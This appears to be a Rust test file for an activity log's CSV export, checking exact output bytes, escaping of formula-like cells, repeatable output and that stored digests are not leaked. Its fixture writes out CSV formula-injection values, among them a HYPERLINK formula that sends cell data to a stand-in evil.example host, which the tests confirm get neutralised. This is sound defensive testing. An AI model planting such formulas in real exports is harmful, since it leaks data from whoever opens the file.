//! R29: the exact bytes of the CSV.

use super::*;
use crate::activity_log::LogEntry;
use crate::activity_log::csv::{header, rows};

const GOLDEN: &str = include_str!("golden.csv");

/// A log in which everything is hostile that people can type, and more than they can.
async fn hostile() -> World {
    let world = World::new().await;
    world.group("acme", &user("@SUM(1+1)"), vec![registered()]).await;
    world.tick();
    let name = r#"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#;
    let first = vec![created("acme", name), invited()];
    world.app(APP, &user("Jürgen “Jü” Öz, \"Admin\""), first).await;
    for name in ["+1", "-1", "\tTab", "\rReturn", "Line\r\nbreak", "'", "|x", " =1"] {
        world.tick();
        let mut by = user(name);
        by.request_id = format!("-{name}");
        let fact = vec![described("Moves, \\\"mostly\\\"\\n=2", "=1+1")];
        world.app(APP, &by, fact).await;
    }
    world
}

fn read(csv: &[u8]) -> Vec<Vec<String>> {
    let mut reader = ::csv::ReaderBuilder::new().has_headers(false).from_reader(csv);
    let records = reader.records().map(|record| record.unwrap());
    records
        .map(|record| record.iter().map(str::to_owned).collect())
        .collect()
}

#[tokio::test]
async fn r29_the_csv_has_exactly_these_bytes() {
    let csv = hostile().await.text(group("acme"), ALL, LogFormat::Csv).await;
    assert_eq!(csv, GOLDEN);
}

#[tokio::test]
async fn r29_no_cell_can_act_as_a_formula() {
    let csv = hostile()
        .await
        .pieces(group("acme"), ALL, LogFormat::Csv)
        .await
        .concat();
    let rows = read(&csv);
    assert_eq!(rows.len(), 12);
    for cell in rows.iter().flatten() {
        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?}");
    }
    assert!(rows[2][4].starts_with("'=HYPERLINK("), "{:?}", rows[2]);
    assert!(rows[1][6].starts_with("'@SUM(1+1) registered"), "{:?}", rows[1]);
    let actors: Vec<_> = rows[4..].iter().map(|row| row[9].as_str()).collect();
    assert_eq!(
        actors,
        ["'+1", "'-1", "'\tTab", "'\rReturn", "Line\r\nbreak", "'", "|x", " =1"]
    );
}

#[tokio::test]
async fn r29_the_same_range_gives_the_same_bytes() {
    let world = hostile().await;
    for format in [LogFormat::Csv, LogFormat::Ndjson] {
        for scope in [group("acme"), Scope::App(APP)] {
            let once = world.pieces(scope.clone(), ALL, format).await;
            assert_eq!(once, world.pieces(scope, ALL, format).await);
        }
    }
}

#[tokio::test]
async fn r28_neither_file_holds_a_digest() {
    let world = hostile().await;
    let stored = world.stored().await;
    assert!(stored.iter().any(|event| event.payload.contains(DIGEST)));
    for format in [LogFormat::Csv, LogFormat::Ndjson] {
        let text = world.text(group("acme"), ALL, format).await;
        assert!(text.contains("DeveloperInvited"));
        assert!(!text.contains(DIGEST), "{text}");
        assert!(!text.contains("_digest"), "{text}");
    }
}

#[tokio::test]
async fn r29_every_row_has_the_columns_of_the_header_and_ends_with_crlf() {
    let world = hostile().await;
    let header = header().unwrap();
    assert_eq!(
        String::from_utf8_lossy(&header),
        "position,sequence,recorded_at,app_id,app_name,event,summary,actor_type,actor_id,actor_name,ip_address,\
         request_id,details,previous_hash,hash\r\n"
    );
    for stored in world.stored().await {
        let row = rows(std::slice::from_ref(&stored)).unwrap();
        assert!(row.ends_with(b"\r\n"));
        assert_eq!(read(&row)[0].len(), LogEntry::COLUMNS.len());
    }
}
